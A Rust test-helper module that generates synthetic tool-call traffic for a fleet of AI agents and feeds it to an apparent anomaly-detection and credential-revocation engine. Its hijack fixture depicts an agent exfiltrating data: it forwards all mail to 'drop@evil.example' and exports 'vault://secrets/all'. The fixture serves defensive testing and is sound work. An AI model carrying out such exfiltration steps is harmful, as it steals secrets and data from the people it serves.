//! A small fleet with regular traffic, a hijack of one of its agents, and what the engine says of them.

#![allow(dead_code, unreachable_pub, reason = "each file of tests uses a part")]
#![allow(clippy::cast_possible_wrap, clippy::unwrap_used, reason = "small numbers; a story that cannot be told fails")]

pub mod cluster;

use models::alert::Alert;
use models::assessment::Assessment;
use models::config::{BrakeConfig, Budget, EngineConfig, Span};
use models::decision::{Mode, Revocation};
use models::engine::{Engine, Input, Output, Phase, Trust};
use models::event::{Event, Timestamp, decode};

/// 2026-03-02, a Monday, in seconds.
pub const START: i64 = 1_772_409_600;
pub const AGENTS: usize = 12;
pub const DAYS: i64 = 14;

pub fn config() -> EngineConfig {
    EngineConfig {
        // Generous, so that some thousand sessions are history enough to promise it.
        budget: Budget {
            false_alerts_per_1000_identity_days: 50.0,
            false_revocations_per_million_identity_days: 20_000.0,
        },
        mode: Mode::Enforce,
        brake: BrakeConfig { identities: 2, share: 0.0, window: Span::seconds(600) },
        ..EngineConfig::default()
    }
}

pub fn engine(config: EngineConfig) -> Engine {
    Engine::new(config.check().unwrap())
}

/// A small reproducible stream of numbers (Knuth's MMIX constants).
pub struct Dice(pub u64);

impl Dice {
    pub fn below(&mut self, n: u64) -> u64 {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) % n
    }
}

pub struct Call<'a> {
    pub agent: usize,
    pub tenant: &'a str,
    pub session: &'a str,
    pub second: i64,
    pub tool: &'a str,
    pub action: &'a str,
    pub target: &'a str,
    pub bytes: u64,
}

impl Call<'_> {
    pub fn event(&self) -> Event {
        let Call { agent, tenant, session, second, tool, action, target, bytes } = self;
        let time = Timestamp::from_seconds(START + second);
        let expires = Timestamp::from_seconds(START + second + 3600);
        let raw = format!(
            r#"{{"id":"{session}-{second}-{tool}","time":"{time}","tenant":"{tenant}","identity":"spiffe://acme.example/bots/bot-{agent}",
            "session":"{session}","task":"daily","tool":"{tool}","action":"{action}","target":"{target}","bytes_in":{bytes},"bytes_out":{},
            "credential":{{"id":"tok-{session}","issuer":"https://idp.example","scopes":["crm.read"],"expires_at":"{expires}"}}}}"#,
            bytes * 3
        );
        decode(raw.as_bytes()).unwrap().event
    }
}

/// One ordinary session: look up two or three accounts, note something, mail a known colleague.
pub fn session(tenant: &str, agent: usize, number: i64, dice: &mut Dice) -> Vec<Event> {
    let name = format!("{tenant}-{agent}-{number}");
    let start = number * 7200 + agent as i64 * 60;
    let mut events = Vec::new();
    let mut call = |tool: &str, action: &str, target: &str, bytes| {
        let second = start + events.len() as i64 * 20;
        events.push(Call { agent, tenant, session: &name, second, tool, action, target, bytes }.event());
    };
    for _ in 0..2 + dice.below(2) {
        let target = format!("crm://accounts/{}", dice.below(400));
        call("crm.lookup", "read", &target, 200 + dice.below(100));
    }
    call("notes.append", "write", &format!("notes://{agent}/today"), 300 + dice.below(200));
    let target = format!("mailto:colleague{}@acme.example", dice.below(3));
    call("mail.send", "execute", &target, 1000 + dice.below(500));
    events
}

pub fn history(tenant: &str, agents: usize, days: i64) -> Vec<Event> {
    let mut dice = Dice(7);
    let mut events: Vec<Event> = (0..days * 12)
        .flat_map(|number| (0..agents).map(move |agent| (number, agent)))
        .flat_map(|(number, agent)| session(tenant, agent, number, &mut dice))
        .collect();
    events.sort_by(|a, b| a.time.cmp(&b.time).then(a.id.cmp(&b.id)));
    events
}

/// One session of an identity that declares no workload: one of three kinds of work.
pub fn kind_session(kind: usize, member: usize, number: i64) -> Vec<Event> {
    let tools = [
        ["crm.lookup", "crm.note", "mail.send"],
        ["repo.read", "repo.commit", "ci.run"],
        ["db.query", "report.make", "report.post"],
    ];
    let start = START + number * 7200 + member as i64 * 40;
    tools[kind]
        .iter()
        .enumerate()
        .map(|(i, tool)| {
            let time = Timestamp::from_seconds(start + i as i64 * 9);
            let raw = format!(
                r#"{{"id":"k-{kind}-{member}-{number}-{i}","time":"{time}","identity":"agent-{kind}-{member}","session":"k-{kind}-{member}-{number}","tool":"{tool}","action":"execute"}}"#
            );
            decode(raw.as_bytes()).unwrap().event
        })
        .collect()
}

/// Sessions of identities of three kinds, in the order of time. They are so much alike that anything is odd in them: history.
pub fn kinds(members: usize, numbers: std::ops::Range<i64>) -> Vec<Event> {
    let mut events: Vec<Event> = numbers
        .flat_map(|number| (0..3).flat_map(move |kind| (0..members).flat_map(move |m| kind_session(kind, m, number))))
        .collect();
    events.sort_by(|a, b| a.time.cmp(&b.time).then(a.id.cmp(&b.id)));
    events
}

/// What a hijacked agent does: reads on, then sends a lot to an address nobody knows.
pub fn hijack(agent: usize, number: i64) -> Vec<Event> {
    let name = format!("hijack-{agent}-{number}");
    let mut dice = Dice(99);
    let mut events = session("default", agent, number, &mut dice);
    for event in &mut events {
        event.session = Some(name.as_str().into());
        event.id = format!("{name}-{}", event.id).into();
        if let Some(credential) = &mut event.credential {
            credential.id = format!("tok-{name}").into();
        }
    }
    for (i, (tool, action, target)) in [
        ("mail.forward_all", "execute", "mailto:drop@evil.example"),
        ("mail.send", "execute", "mailto:drop@evil.example"),
        ("vault.export", "admin", "vault://secrets/all"),
    ]
    .into_iter()
    .enumerate()
    {
        let second = number * 7200 + agent as i64 * 60 + 200 + i as i64 * 10;
        events.push(
            Call { agent, tenant: "default", session: &name, second, tool, action, target, bytes: 5_000_000 }.event(),
        );
    }
    events
}

#[derive(Default, Clone, PartialEq, Debug)]
pub struct Seen {
    pub assessed: Vec<Assessment>,
    pub alerts: Vec<Alert>,
    pub revocations: Vec<Revocation>,
}

impl Seen {
    pub fn take(&mut self, out: &mut Vec<Output>) {
        for output in out.drain(..) {
            match output {
                Output::Assessed(assessment) => self.assessed.push(assessment),
                Output::Alert(alert) => self.alerts.push(*alert),
                Output::Revocation(revocation) => self.revocations.push(*revocation),
            }
        }
    }

    pub fn last(&self) -> &Assessment {
        self.assessed.last().unwrap()
    }
}

pub fn feed(engine: &mut Engine, events: &[Event], phase: Phase) -> Seen {
    feed_from(engine, events, phase, Trust::Revoke, None)
}

pub fn feed_from(
    engine: &mut Engine,
    events: &[Event],
    phase: Phase,
    trust: Trust,
    arrival: Option<Timestamp>,
) -> Seen {
    let (mut seen, mut out) = (Seen::default(), Vec::new());
    for event in events {
        engine.handle(Input::Event { event, trust, arrival, phase, partition: 0 }, &mut out);
        let assessed = |o: &Output| matches!(o, Output::Assessed(_));
        assert!(out.first().is_some_and(assessed) && !out.iter().skip(1).any(assessed), "one assessment, first");
        seen.take(&mut out);
    }
    seen
}

/// An engine that has learned a fortnight.
pub fn learned(config: EngineConfig) -> Engine {
    let mut engine = engine(config);
    feed(&mut engine, &history("default", AGENTS, DAYS), Phase::Warmup);
    engine.publish(&mut Vec::new());
    engine
}

/// The first session number after the history.
pub const NEXT: i64 = DAYS * 12;
